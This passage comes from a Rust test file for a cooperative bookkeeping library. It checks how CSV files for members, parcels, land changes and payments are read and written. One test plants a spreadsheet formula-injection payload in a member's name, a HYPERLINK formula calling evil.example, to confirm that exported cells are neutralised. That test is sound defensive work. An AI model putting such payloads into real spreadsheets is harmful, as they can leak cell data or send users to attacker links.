    let names = ok(write_all_outputs(&book, folder.settings(), dir.path()));
    for file in run(&folder) {
        assert!(names.contains(&file.name), "{}", file.name);
        assert_eq!(
            io(std::fs::read(dir.join(&file.name))),
            file.bytes,
            "{}",
            file.name
        );
    }
}

mod arbitrary_input {
    use super::*;
    use proptest::prelude::*;
    use std::sync::OnceLock;

    fn files() -> &'static Vec<(String, Vec<u8>)> {
        static FILES: OnceLock<Vec<(String, Vec<u8>)>> = OnceLock::new();
        FILES.get_or_init(reference_files)
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]

        /// Any bytes in place of a file are read or refused with problems, never a panic.
        #[test]
        fn any_bytes_in_a_file(bytes in proptest::collection::vec(any::<u8>(), 0..300), which in 0usize..15) {
            let mut files = files().clone();
            if let Some(file) = files.get_mut(which) {
                file.1 = bytes;
            }
            if let Err(err) = BookFolder::from_files(&files) {
                prop_assert!(matches!(err, Error::Folder(_)), "{err:?}");
                prop_assert!(!err.to_string().is_empty());
            }
        }

        /// Any text in a cell is read (and the folder runs or is refused) or refused with a
        /// problem naming the file.
        #[test]
        fn any_text_in_a_cell(text in "[^\r\n\",]{0,16}", which in 0usize..15, row in 1usize..4, col in 0usize..9) {
            let mut files = files().clone();
            let Some((name, bytes)) = files.get_mut(which) else {
                return Ok(());
            };
            let name = name.clone();
            let original = String::from_utf8(bytes.clone()).unwrap_or_default();
            let mut lines: Vec<String> = original.split("\r\n").map(str::to_string).collect();
            if let Some(line) = lines.get_mut(row) {
                let mut cells: Vec<String> = line.split(',').map(str::to_string).collect();
                if let Some(cell) = cells.get_mut(col) {
                    *cell = text.clone();
                }
                *line = cells.join(",");
            }
            *bytes = lines.join("\r\n").into_bytes();
            match BookFolder::from_files(&files) {
                Ok(folder) => {
                    // A row the book refuses may be in another file (a contract asking for
                    // more than a parcel edited smaller has), but it is named.
                    if let Err(err) = folder.run() {
                        let Error::Folder(folder) = &err else {
                            return Err(TestCaseError::fail(format!("{err:?}")));
                        };
                        prop_assert!(
                            matches!(folder.problems(), [p] if matches!(p.kind, ProblemKind::Rejected { .. })),
                            "{err}"
                        );
                    }
                }
                Err(err) => prop_assert!(err.to_string().contains(name.as_str()), "{err}"),
            }
        }
    }
}

/// The reference's registers with a parcel no contract holds, split, merged again, and a
/// swap with compensation between two contracts, then the year's rent.
fn land_changes_folder() -> BookFolder {
    use landpool::{Accrue, Event, ParcelPart, SwapCompensation};
    use time::macros::date;

    let reference = reference();
    let registers = [
        "accounts.csv",
        "members.csv",
        "parcels.csv",
        "contracts.csv",
    ];
    let mut events: Vec<Event> = reference
        .events()
        .iter()
        .filter(|e| registers.contains(&e.source.file.as_str()))
        .map(|e| e.event.clone())
        .collect();
    let Some(Event::ParcelRegistered { parcel }) = events
        .iter()
        .find(|e| matches!(e, Event::ParcelRegistered { .. }))
        .cloned()
    else {
        panic!("the reference has parcels")
    };
    fn id<T: std::str::FromStr<Err = Error>>(text: &str) -> T {
        ok(text.parse())
    }
    let mu = |text: &str| -> landpool::Mu { ok(text.parse()) };
    events.push(Event::ParcelRegistered {
        parcel: landpool::Parcel {
            id: id("P01-9"),
            area: mu("2"),
            ..parcel
        },
    });
    events.push(Event::ParcelSplit {
        parcel: id("P01-9"),
        date: date!(2019 - 05 - 01),
        parts: vec![
            ParcelPart {
                parcel: id("P01-9a"),
                area: mu("1.2"),
            },
            ParcelPart {
                parcel: id("P01-9b"),
                area: mu("0.8"),
            },
        ],
    });
    events.push(Event::ParcelsMerged {
        parcels: vec![id("P01-9a"), id("P01-9b")],
        into: id("P01-10"),
        date: date!(2019 - 06 - 01),
    });
    events.push(Event::AreaSwapped {
        date: date!(2019 - 07 - 01),
        first: id("LZ01"),
        first_gives: mu("0.5"),
        second: id("LZ02"),
        second_gives: mu("0.3"),
        compensation: Some(SwapCompensation {
            payer: id("H02"),
            amount: ok("200".parse()),
        }),
    });
    events.push(Event::RentAccrued {
        from: date!(2019 - 01 - 01),
        to: date!(2019 - 12 - 31),
        contracts: Accrue::All,
        date: date!(2019 - 12 - 31),
    });
    let settings = landpool::folder::Settings {
        close: None,
        prior_log: None,
        ..reference.settings().clone()
    };
    ok(BookFolder::new(settings, events))
}

/// The policy's choice to cover a loss from the reserve is a setting of `policy.csv`: written
/// as 是 when chosen, read back, and read as 否 from a folder without the row.
#[test]
fn covering_a_loss_from_the_reserve_is_a_setting() {
    let reference = ok(BookFolder::reference());
    let mut settings = reference.settings().clone();
    let mut policy = settings
        .close
        .clone()
        .unwrap_or_else(|| panic!("no policy"));
    assert!(!policy.cover_loss_from_reserve);
    policy.cover_loss_from_reserve = true;
    settings.close = Some(policy);
    // The events the folder's rows hold (the close comes from policy.csv).
    let events = reference
        .events()
        .iter()
        .filter(|e| !matches!(e.event, landpool::Event::YearClosed { .. }))
        .map(|e| e.event.clone())
        .collect();
    let folder = ok(BookFolder::new(settings.clone(), events));
    let files = ok(folder.to_files());
    let (_, text) = files
        .iter()
        .find(|(name, _)| name == "policy.csv")
        .unwrap_or_else(|| panic!("no policy.csv"));
    assert!(
        text.contains("\r\n公积金弥补亏损 cover_loss_from_reserve,是,"),
        "{text}"
    );
    let bytes: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
        .collect();
    assert_eq!(ok(BookFolder::from_files(&bytes)).settings(), &settings);
    // A policy.csv without the row (as written before it existed) reads as 否.
    let without: Vec<(String, Vec<u8>)> = bytes
        .iter()
        .map(|(name, data)| {
            let data = if name == "policy.csv" {
                String::from_utf8_lossy(data)
                    .split("\r\n")
                    .filter(|line| !line.contains("cover_loss_from_reserve"))
                    .collect::<Vec<_>>()
                    .join("\r\n")
                    .into_bytes()
            } else {
                data.clone()
            };
            (name.clone(), data)
        })
        .collect();
    let read = ok(BookFolder::from_files(&without));
    assert_eq!(
        read.settings()
            .close
            .as_ref()
            .map(|p| p.cover_loss_from_reserve),
        Some(false)
    );
}

/// A capital contribution's premium (paid above the member's share, to 321) is the column
/// 资本溢价 premium of `payments.csv`: written, read back, and booked.
#[test]
fn a_capital_premium_round_trips_through_payments_csv() {
    let reference = ok(BookFolder::reference());
    let mut first = true;
    let events: Vec<landpool::Event> = reference
        .events()
        .iter()
        .filter(|e| !matches!(e.event, landpool::Event::YearClosed { .. }))
        .map(|e| {
            let mut event = e.event.clone();
            if let landpool::Event::CapitalContributed { premium, .. } = &mut event {
                if std::mem::take(&mut first) {
                    *premium = ok("1000".parse());
                }
            }
            event
        })
        .collect();
    assert!(!first, "the reference has no capital contribution");
    let folder = ok(BookFolder::new(
        reference.settings().clone(),
        events.clone(),
    ));
    let files = ok(folder.to_files());
    let (_, text) = files
        .iter()
        .find(|(name, _)| name == "payments.csv")
        .unwrap_or_else(|| panic!("no payments.csv"));
    let header = text.lines().next().unwrap_or_default();
    assert!(header.contains(",资本溢价 premium,"), "{header}");
    assert_eq!(text.matches(",1000.00,").count(), 1, "{text}");
    let bytes: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
        .collect();
    let read = ok(BookFolder::from_files(&bytes));
    let read_events: Vec<landpool::Event> = read
        .events()
        .iter()
        .filter(|e| !matches!(e.event, landpool::Event::YearClosed { .. }))
        .map(|e| e.event.clone())
        .collect();
    assert_eq!(read_events, events);
    let book = ok(read.run());
    let reserve = ok(book
        .journal()
        .closing_balance(&ok(landpool::ledger::AccountCode::new("321"))));
    assert_eq!(reserve.to_string(), "-1000.00");
}

/// A file may be named in Chinese with the extension in capitals, as in English.
#[test]
fn a_chinese_file_name_with_a_capital_extension_is_read() {
    let reference = ok(BookFolder::reference());
    let files: Vec<(String, Vec<u8>)> = ok(reference.to_files())
        .into_iter()
        .map(|(name, text)| {
            let name = if name == "members.csv" {
                "成员.CSV".to_string()
            } else {
                name
            };
            (name, text.into_bytes())
        })
        .collect();
    let read = ok(BookFolder::from_files(&files));
    assert_eq!(read.events().len(), reference.events().len());
}

/// The cells of a CSV file as a CSV reader (and so a spreadsheet) reads them.
fn csv_cells(text: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .flat_map(|record| {
            record
                .unwrap_or_else(|e| panic!("{e}"))
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// A text a member typed as a formula (`=HYPERLINK(…)`) is written into every CSV file
/// after an apostrophe, so that Excel or WPS open it as text (OWASP's advice against
/// formula injection), and a folder written so reads back the name as it was typed.
#[test]
fn text_that_looks_like_a_formula_is_written_as_text() {
    let formula = "=HYPERLINK(\"http://evil.example/\"&A1;\"点此\")";
    let files: Vec<(String, Vec<u8>)> = ok(ok(BookFolder::reference()).to_files())
        .into_iter()
        .map(|(name, text)| {
            let text = if name == "members.csv" {
                text.replacen(
                    "H02,高秀英,",
                    "H02,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1;\"\"点此\"\")\",",
                    1,
                )
            } else {
                text
            };
            (name, text.into_bytes())
        })
        .collect();
    let folder = ok(BookFolder::from_files(&files));
    let book = ok(folder.run());
    let name = |book: &landpool::Book| {
        book.member(&ok("H02".parse()))
            .map(|m| m.name.to_string())
            .unwrap_or_default()
    };
    assert_eq!(name(&book), formula);
    // A cell a spreadsheet would run: = or @ first, or + or - before anything but a number.
    let runs = |cell: &str| {
        cell.starts_with(['=', '@'])
            || (cell.starts_with(['+', '-'])
                && !cell
                    .chars()
                    .skip(1)
                    .all(|c| c.is_ascii_digit() || c == '.' || c == ','))
    };
    let mut written = Vec::new();
    for out in ok(outputs(&book, folder.settings())) {
        if out.name.ends_with(".csv") {
            written.push((
                out.name.clone(),
                String::from_utf8_lossy(&out.bytes).into_owned(),
            ));
        }
    }
    let again = ok(folder.to_files());
    written.extend(again.iter().cloned());
    let mut guarded = 0;
    for (file, text) in &written {
        for cell in csv_cells(text) {
            assert!(!runs(&cell), "{file}: {cell}");
            guarded += usize::from(cell == format!("'{formula}"));
        }
    }
    // members.csv, the member accounts and the households' incomes name H02.
    assert!(guarded >= 3, "{guarded}");
    // The workbook holds the text itself (its text cells are never run).
    #[cfg(feature = "xlsx")]
    {
        use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
        let outs = ok(outputs(&book, folder.settings()));
        let bytes = outs
            .iter()
            .find(|o| o.name == "statements.xlsx")
            .map(|o| o.bytes.clone())
            .unwrap_or_default();
        let mut workbook: Xlsx<_> =
            open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap_or_else(|e| panic!("{e}"));
        let (mut plain, mut apostrophe) = (0, 0);
        for sheet in workbook.sheet_names() {
            let range = workbook
                .worksheet_range(&sheet)
                .unwrap_or_else(|e| panic!("{e}"));
            for cell in range.used_cells() {
                if let (_, _, Data::String(text)) = cell {
                    plain += usize::from(text == formula);
                    apostrophe += usize::from(*text == format!("'{formula}"));
                }
            }
        }
        assert!(plain >= 2 && apostrophe == 0, "{plain} {apostrophe}");
    }
    // The folder written reads back the name as typed, and writes the same files again.
    let bytes: Vec<(String, Vec<u8>)> = again
        .iter()
        .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
        .collect();
    let read = ok(BookFolder::from_files(&bytes));
    assert_eq!(name(&ok(read.run())), formula);
    assert_eq!(ok(read.to_files()), again);
}

/// A policy the law refuses (returns by transaction volume below 60%) is reported on the
/// value cell of the setting that breaks the rule.
#[test]
fn a_refused_policy_is_reported_on_its_setting() {
    let files: Vec<(String, Vec<u8>)> = ok(ok(BookFolder::reference()).to_files())
        .into_iter()
        .map(|(name, text)| (name, text.into_bytes()))
        .collect();
    let (_, policy) = files
        .iter()
        .find(|(name, _)| name == "policy.csv")
        .unwrap_or_else(|| panic!("no policy.csv"));
    let policy = String::from_utf8_lossy(policy).into_owned();
    let (line, row) = policy
        .split("\r\n")
        .enumerate()
        .find(|(_, row)| row.contains(" patronage_percent,"))
        .unwrap_or_else(|| panic!("{policy}"));
    let (name, rest) = row.split_once(',').unwrap_or_default();
    let (_, about) = rest.split_once(',').unwrap_or_default();
    let edited = policy.replacen(row, &format!("{name},50,{about}"), 1);
    let files: Vec<(String, Vec<u8>)> = files
        .into_iter()
        .map(|(name, bytes)| {
            if name == "policy.csv" {
                (name, edited.clone().into_bytes())
            } else {
                (name, bytes)
            }
        })
        .collect();
    let Err(Error::Folder(error)) = BookFolder::from_files(&files) else {
        panic!("a policy returning 50% by volume was accepted");
    };
    let found: Vec<(Option<u64>, Option<String>)> = error
        .problems()
        .iter()
        .map(|p| (p.line, p.column.as_ref().map(|c| c.name.clone())))
        .collect();
    let line = u64::try_from(line).unwrap_or_default() + 1;
    assert_eq!(
        found,
        [(Some(line), Some("值 value".to_string()))],
        "{error}"
    );
    assert!(error.to_string().contains("at least 60"), "{error}");
}

#[test]
fn land_changes_round_trip_and_apply() {
    let folder = land_changes_folder();
    let files = ok(folder.to_files());
    let (_, text) = files
        .iter()
        .find(|(name, _)| name == "land_changes.csv")
        .unwrap_or_else(|| panic!("land_changes.csv is written"));
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(
        lines,
        [
            "日期 date,类别 kind,合同编号 contract,换出面积(亩) gives,对方合同编号 other_contract,对方换出面积(亩) other_gives,补偿付款人 payer,补偿金额 compensation,地块编号 parcel,新地块编号 new_parcel,面积(亩) area,列支科目 charge_to,解除原因 reason,备注 note",
            "2019-05-01,分割,,,,,,,P01-9,P01-9a,1.20,,,",
            "2019-05-01,分割,,,,,,,P01-9,P01-9b,0.80,,,",
            "2019-06-01,合并,,,,,,,P01-9a、P01-9b,P01-10,,,,",
            "2019-07-01,置换,LZ01,0.50,LZ02,0.30,H02,200.00,,,,,,",
        ]
    );
    let bytes = |files: &[(String, String)]| -> Vec<(String, Vec<u8>)> {
        files
            .iter()
            .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
            .collect()
    };
    assert_eq!(ok(BookFolder::from_files(&bytes(&files))), folder);
    let event = |file: &str| {
        folder
            .events()
            .iter()
            .filter(|e| e.source.file == file)
            .map(|e| e.source.line)
            .collect::<Vec<_>>()
    };
    // A split is one event from its first row.
    assert_eq!(event("land_changes.csv"), [2, 4, 5]);

    // As a person types it: the Chinese name, English headers, the rows in another order,
    // a one-sided swap's empty cell for 0, Excel's dates and words in English.
    let typed = "date,kind,contract,gives,other_contract,other_gives,payer,compensation,parcel,new_parcel,area\n\
                 2019/5/1,split,,,,,,,P01-9,P01-9b,0.8\n\
                 2019/7/1,swap,LZ01,0.5,LZ02,0.3,H02,200\n\
                 2019/5/1,split,,,,,,,P01-9,P01-9a,1.2\n\
                 2019/6/1,merge,,,,,,,\"P01-9a, P01-9b\",P01-10\n\
                 2019/8/1,swap,LZ03,0.25,LZ04,,H04,\"¥1,250\"\n";
    let mut typed_files = bytes(&files);
    typed_files.retain(|(name, _)| name != "land_changes.csv");
    typed_files.push(("土地变更.csv".into(), typed.as_bytes().to_vec()));
    let read = ok(BookFolder::from_files(&typed_files));
    let changes: Vec<String> = read
        .events()
        .iter()
        .filter(|e| e.source.file == "土地变更.csv")
        .map(|e| {
            format!(
                "{} {}",
                e.source.line,
                serde_json::to_string(&e.event).unwrap_or_default()
            )
        })
        .collect();
    assert_eq!(
        changes,
        [
            r#"2 {"type":"parcel_split","parcel":"P01-9","date":"2019-05-01","parts":[{"parcel":"P01-9b","area":"0.80"},{"parcel":"P01-9a","area":"1.20"}]}"#,
            r#"5 {"type":"parcels_merged","parcels":["P01-9a","P01-9b"],"into":"P01-10","date":"2019-06-01"}"#,
            r#"3 {"type":"area_swapped","date":"2019-07-01","first":"LZ01","first_gives":"0.50","second":"LZ02","second_gives":"0.30","compensation":{"payer":"H02","amount":"200.00"}}"#,
            r#"6 {"type":"area_swapped","date":"2019-08-01","first":"LZ03","first_gives":"0.25","second":"LZ04","second_gives":"0.00","compensation":{"payer":"H04","amount":"1250.00"}}"#,
        ]
    );
    ok(read.run());

    let book = ok(folder.run());
    let parcel = |id: &str| {
        book.parcels()
            .find(|p| p.id.as_str() == id)
            .cloned()
            .unwrap_or_else(|| panic!("{id}"))
    };
    use time::macros::date;
    assert_eq!(parcel("P01-9").retired, Some(date!(2019 - 05 - 01)));
    assert_eq!(parcel("P01-9a").registered, date!(2019 - 05 - 01));
    assert_eq!(parcel("P01-9a").retired, Some(date!(2019 - 06 - 01)));
    assert_eq!(parcel("P01-9b").retired, Some(date!(2019 - 06 - 01)));
    assert_eq!(parcel("P01-10").area.to_string(), "2.00");
    assert_eq!(parcel("P01-10").retired, None);
}

#[test]
fn broken_land_changes_name_the_file_line_and_column() {
    let mut files = reference_files();
    files.retain(|(name, _)| name != "land_changes.csv");
    files.push((
        "land_changes.csv".into(),
        "日期,类别,合同编号,换出面积,对方合同编号,对方换出面积\n\
         2019-02-30,置换,LZ01,0.5,LZ02,0.5\n\
         2019-07-01,置换,LZ01,0.5,LZ77,0.5\n\
         2019-07-01,置换,LZ01,zero point five,LZ02,0.5\n"
            .as_bytes()
            .to_vec(),
    ));
    let err = BookFolder::from_files(&files).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    let found: Vec<(ProblemKind, Option<u64>, Option<usize>)> = folder
        .problems()
        .iter()
        .map(|p| (p.kind.clone(), p.line, p.column.as_ref().map(|c| c.number)))
        .collect();
    assert_eq!(
        found,
        [
            (ProblemKind::BadDate, Some(2), Some(1)),
            (ProblemKind::UnknownReference, Some(3), Some(5)),
            (ProblemKind::BadArea, Some(4), Some(4)),
        ]
    );
    assert_eq!(
        err.to_string(),
        "3 problems in the book folder:\n\
         land_changes.csv, line 2, column 1 \"日期\": expected a date such as 2019-03-15 or 2019/3/15 (there is no 2019-02-30), found \"2019-02-30\"\n\
         land_changes.csv, line 3, column 5 \"对方合同编号\": no contract \"LZ77\" in contracts.csv\n\
         land_changes.csv, line 4, column 4 \"换出面积\": expected an area in mu of zero or more, such as 0.5, found \"zero point five\""
    );
}

/// The reference's payments.csv edited line by line.
fn payments_edited(f: impl Fn(&str) -> String) -> Vec<(String, Vec<u8>)> {
    let mut files = reference_files();
    for (name, bytes) in &mut files {
        if name == "payments.csv" {
            let text = String::from_utf8(bytes.clone()).unwrap_or_default();
            let edited: Vec<String> = text.split("\r\n").map(&f).collect();
            *bytes = edited.join("\r\n").into_bytes();
        }
    }
    files
}

#[test]
fn capital_sources_in_payments_csv() {
    let member = |book: &landpool::Book, id: &str| {
        ok(book.member_account(&ok(id.parse()), time::macros::date!(2019 - 12 - 31)))
    };
    // A payments.csv written before the column existed: every contribution is other sources.
    let old = payments_edited(|line| {
        line.replace(",股金来源 capital_source", "")
            .replace(",银行,扶贫资产,", ",银行,")
            .replacen(",银行,,", ",银行,", 1)
    });
    let book = ok(ok(BookFolder::from_files(&old)).run());
    let h05 = member(&book, "H05");
    assert_eq!(
        (h05.capital, h05.poverty_relief_capital),
        (
            landpool::Yuan::from_yuan(10000).unwrap_or_default(),
            landpool::Yuan::ZERO
        )
    );
    // Other spellings, Chinese and English, read the same as the words --init writes.
    let spelled = payments_edited(|line| {
        if line.contains(",H05,") {
            line.replace("扶贫资产", "扶贫资产折股量化")
        } else if line.contains(",H18,") {
            line.replace("扶贫资产", "Poverty relief")
        } else if line.contains("股金,H01,") {
            line.replace(",银行,,", ",银行,other,")
        } else if line.contains("股金,H02,") {
            line.replace(",银行,,", ",银行,其他,")
        } else {
            line.to_string()
        }
    });
    let reread = ok(ok(BookFolder::from_files(&spelled)).run());
    assert_eq!(reread.digest(), ok(reference().run()).digest());
    for (id, relief) in [("H05", 10000), ("H18", 10000), ("H01", 0), ("H02", 0)] {
        assert_eq!(
            member(&reread, id).poverty_relief_capital,
            landpool::Yuan::from_yuan(relief).unwrap_or_default(),
            "{id}"
        );
    }
    // A source on a row that is not capital, and a word that is no source, are refused at
    // their cells.
    let broken = payments_edited(|line| {
        if line.starts_with("2019-03-01,租金,H01,") {
            line.replace(",银行,,", ",银行,扶贫资产,")
        } else if line.contains("股金,H03,") {
            line.replace(",银行,,", ",银行,gift,")
        } else {
            line.to_string()
        }
    });
    let err = BookFolder::from_files(&broken).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    let found: Vec<(ProblemKind, Option<usize>)> = folder
        .problems()
        .iter()
        .map(|p| (p.kind.clone(), p.column.as_ref().map(|c| c.number)))
        .collect();
    assert_eq!(
        found,
        [
            (ProblemKind::BadChoice, Some(7)),
            (ProblemKind::BadText, Some(7))
        ],
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("one of 扶贫资产 poverty_relief, 其他 other"),
        "{err}"
    );
}

/// A small folder: no close, one member, one greenhouse, and `extra` files.
fn small_folder(extra: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    let mut files = vec![
        ("policy.csv", "setting,value\ncooperative,示例\nyear,2019\nclose,no\n"),
        (
            "members.csv",
            "member,name,persons,village,joined\nH01,王建国,3,高格庄,2019/1/1\n",
        ),
        (
            "greenhouses.csv",
            "greenhouse,name,area,crop,built,cost,residual,life_months,paid_from\nGH01,一号棚,7.1429,GRAPE,2019/1/1,1000,0,120,bank\n",
        ),
    ];
    files.extend_from_slice(extra);
    files
        .into_iter()
        .map(|(name, text)| (name.to_string(), text.as_bytes().to_vec()))
        .collect()
}

#[test]
fn a_quote_never_closed_is_refused_rather_than_swallowing_the_rows_after_it() {
    // The CSV reader takes everything after a quote that is never closed into its cell: here
    // the two later costs would have vanished into the note, which is not read.
    for end in ["\n", "\r\n"] {
        let costs = [
            "日期 date,类别 kind,金额 amount,列支对象 charged_to,付款方式 payment,备注 note",
            "2019/7/1,水电,100,GH01,bank,\"电费",
            "2019/7/2,水电,200,GH01,bank,x",
            "2019/7/3,水电,300,GH01,bank,",
            "",
        ]
        .join(end);
        let problem = only_problem(&small_folder(&[("costs.csv", &costs)]));
        assert_eq!(
            problem.to_string(),
            "costs.csv, line 2, column 6 \"备注 note\": a quote opens this cell and is never closed, so the rest of the file (to line 4) would be read into it; close the quote or remove it (a quote inside a quoted cell is written twice: \"\")",
            "{end:?}"
        );
        assert_eq!(problem.kind, ProblemKind::NotText);
    }
    // In the header row too, and in a cell of a later line than the row's first.
    let harvests = "日期 date,大棚编号 greenhouse,\"重量 kg\n2019/7/1,GH01,10\n";
    assert_eq!(
        only_problem(&small_folder(&[("harvests.csv", harvests)])).to_string(),
        "harvests.csv, line 1, column 3: a quote opens this cell and is never closed, so the rest of the file (to line 2) would be read into it; close the quote or remove it (a quote inside a quoted cell is written twice: \"\")"
    );
    let harvests = "日期 date,大棚编号 greenhouse,重量 kg,备注 note\n2019/7/1,GH01,10,\"two\nlines\",\"x\n2019/7/2,GH01,10\n";
    assert_eq!(
        only_problem(&small_folder(&[("harvests.csv", harvests)])).to_string(),
        "harvests.csv, line 3, column 5: a quote opens this cell and is never closed, so the rest of the file (to line 4) would be read into it; close the quote or remove it (a quote inside a quoted cell is written twice: \"\")"
    );
    // Quotes that close, and quotes inside unquoted cells, read as before.
    let harvests = "日期 date,大棚编号 greenhouse,重量 kg,备注 note\n2019/7/1,GH01,10,\"say \"\"hi\"\"\nthere\"\n2019/7/2,GH01,10,5\"\n";
    assert!(BookFolder::from_files(&small_folder(&[("harvests.csv", harvests)])).is_ok());
}

/// `small_folder` with a second member and two parcels, and `contracts`.
fn contract_folder(contracts: &str) -> Vec<(String, Vec<u8>)> {
    let mut files = small_folder(&[
        (
            "parcels.csv",
            "parcel,owner,area,village,land_class,registered\nP1,H01,5,高格庄,旱地,2019/1/1\nP2,H01,5,高格庄,旱地,2019/1/1\n",
        ),
        ("contracts.csv", contracts),
    ]);
    for (name, bytes) in &mut files {
        if name == "members.csv" {
            bytes.extend_from_slice("H-01,李秀英,2,高格庄,2019/1/1\n".as_bytes());
        }
    }
    files
}

#[test]
fn rows_of_a_contract_that_disagree_on_its_terms_are_refused() {
    let header = "contract,member,parcel,area,start,end,yuan_per_mu,payment,pay_by,charge_to\n";
    let first = "LZ01,H01,P1,5,2019/1/1,2029-1-15,1000,预付,03-01,521\n";
    // Another member and another end date: texts that differ only by a dash.
    let err = BookFolder::from_files(&contract_folder(&format!(
        "{header}{first}LZ01,H-01,P2,5,2019/1/1,2029-11-5,1000,预付,03-01,521\n"
    )))
    .unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    let found: Vec<String> = folder.problems().iter().map(ToString::to_string).collect();
    assert_eq!(
        found,
        [
            "contracts.csv, line 3, column 2 \"member\": the first row of contract LZ01 (line 2) has \"H01\"; the rows of a contract share its terms: repeat them or leave the cell empty",
            "contracts.csv, line 3, column 6 \"end\": the first row of contract LZ01 (line 2) has \"2029-1-15\"; the rows of a contract share its terms: repeat them or leave the cell empty",
        ]
    );
    assert!(folder
        .problems()
        .iter()
        .all(|p| p.kind == ProblemKind::Inconsistent));
    // The same terms written another way are the same terms.
    let same = ok(BookFolder::from_files(&contract_folder(&format!(
        "{header}{first}LZ01,H01,P2,5,2019-01-01,2029/1/15,\"1,000.00\",in_advance,3/1,521\n"
    ))));
    let alone = ok(BookFolder::from_files(&contract_folder(&format!(
        "{header}{first}LZ01,,P2,5,,,,,,\n"
    ))));
    assert_eq!(same, alone);
    assert_eq!(same.events().len(), 6);
}

#[test]
fn a_header_giving_another_unit_than_the_column_takes_is_refused() {
    // Units in brackets may be left out, but one that is not the column's would have the
    // values read in the column's unit: jin as kg (half), hectares as mu (a fifteenth),
    // ten-thousands of yuan as yuan.
    let harvests = |kg: &str| format!("日期,大棚编号,{kg}\n2019/7/1,GH01,100\n");
    let costs = |amount: &str| {
        format!("日期,类别,{amount},列支对象,付款方式\n2019/7/1,水电,1.5,GH01,bank\n")
    };
    let parcels = |area: &str| {
        format!("地块编号,承包户,{area},村,地类,登记日期\nP1,H01,5,高格庄,旱地,2019/1/1\n")
    };
    for (file, text, expected) in [
        (
            "harvests.csv",
            harvests("重量(斤)"),
            "harvests.csv, line 1, column 3 \"重量(斤)\": the unit in brackets is not the column's: \"重量(公斤) kg\" is in 公斤; convert the values to 公斤 and name the column \"重量(公斤) kg\", or leave the unit out",
        ),
        (
            "parcels.csv",
            parcels("面积（公顷）"),
            "parcels.csv, line 1, column 3 \"面积（公顷）\": the unit in brackets is not the column's: \"面积(亩) area\" is in 亩; convert the values to 亩 and name the column \"面积(亩) area\", or leave the unit out",
        ),
        (
            "parcels.csv",
            parcels("area (ha)"),
            "parcels.csv, line 1, column 3 \"area (ha)\": the unit in brackets is not the column's: \"面积(亩) area\" is in 亩; convert the values to 亩 and name the column \"面积(亩) area\", or leave the unit out",
        ),
        (
            "costs.csv",
            costs("金额(万元)"),
            "costs.csv, line 1, column 3 \"金额(万元)\": the unit in brackets is not the column's: \"金额 amount\" is in 元; convert the values to 元 and name the column \"金额 amount\", or leave the unit out",
        ),
    ] {
        let problem = only_problem(&small_folder(&[(file, &text)]));
        assert_eq!(problem.to_string(), expected);
        assert_eq!(problem.kind, ProblemKind::UnknownColumn);
    }
    // The column's own unit, in Chinese or English, or none, reads the same.
    let read = |file: &str, text: &str| ok(BookFolder::from_files(&small_folder(&[(file, text)])));
    for kg in ["重量(千克)", "重量（kg）", "kg", "重量 (公斤) kg"] {
        assert_eq!(
            read("harvests.csv", &harvests(kg)),
            read("harvests.csv", &harvests("重量")),
            "{kg}"
        );
    }
    for amount in ["金额(元)", "Amount (RMB)", "金额（yuan）"] {
        assert_eq!(
            read("costs.csv", &costs(amount)),
            read("costs.csv", &costs("金额")),
            "{amount}"
        );
    }
    for area in ["面积（亩）", "area (mu)"] {
        assert_eq!(
            read("parcels.csv", &parcels(area)),
            read("parcels.csv", &parcels("面积")),
            "{area}"
        );
    }
    // Brackets in the header of a column without a unit are a note, as before.
    assert_eq!(
        read(
            "harvests.csv",
            "日期,大棚编号,重量,备注(可选)\n2019/7/1,GH01,100,x\n"
        ),
        read("harvests.csv", &harvests("重量"))
    );
}

#[test]
fn problems_are_listed_in_the_order_of_their_lines() {
    // A row with a cell beyond the header's columns (found as the file is split into rows)
    // comes after the rows before it (whose cells are checked later).
    let costs = "日期,类别,金额,列支对象,付款方式\n2019/7/1,水电,1000.505,GH01,bank\n2019/7/2,水电,100,GH01,bank,x\n2019/7/3,水电,(100.00),GH01,bank\n";
    let err = BookFolder::from_files(&small_folder(&[("costs.csv", costs)])).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    let found: Vec<(&str, Option<u64>)> = folder
        .problems()
        .iter()
        .map(|p| (p.file.as_str(), p.line))
        .collect();
    assert_eq!(
        found,
        [
            ("costs.csv", Some(2)),
            ("costs.csv", Some(3)),
            ("costs.csv", Some(4))
        ],
        "{err}"
    );
}

#[test]
fn a_file_whose_id_column_is_not_found_does_not_make_every_reference_unknown() {
    // members.csv's id column is misnamed: that is its problem; parcels.csv's owners are not
    // "not in members.csv" (they are, in a column not recognised).
    let mut files = small_folder(&[(
        "parcels.csv",
        "parcel,owner,area,village,land_class,registered\nP1,H01,5,高格庄,旱地,2019/1/1\nP2,H01,5,高格庄,旱地,2019/1/1\n",
    )]);
    for (name, bytes) in &mut files {
        if name == "members.csv" {
            *bytes = "成员 member,name,persons,village,joined\nH01,王建国,3,高格庄,2019/1/1\n"
                .as_bytes()
                .to_vec();
        }
    }
    let err = BookFolder::from_files(&files).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    let found: Vec<String> = folder.problems().iter().map(ToString::to_string).collect();
    assert_eq!(
        found,
        [
            "members.csv, line 1: missing column \"成员编号 member\" (the member's id: ASCII letters, digits and -, such as H01)",
